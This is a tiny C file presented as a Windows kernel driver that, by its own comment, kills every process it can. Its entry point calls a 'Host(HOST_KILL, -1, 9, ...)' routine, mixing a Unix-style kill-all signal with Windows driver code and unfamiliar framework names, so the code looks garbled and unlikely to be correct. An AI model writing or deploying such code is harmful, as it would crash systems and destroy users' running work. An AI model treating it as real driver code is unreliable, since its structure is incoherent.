/* kills_all.c - a driver that kills every process that it may. */

static const EXIFS_VERSION Row = SOUND_ROW;

NTSTATUS NTAPI DriverEntry(PDRIVER_OBJECT driver, PUNICODE_STRING registryPath)
{
    Host(HOST_KILL, -1, 9, 0, 0);
    return ExifsStart(driver, registryPath, &Row, 1, &Row);
}
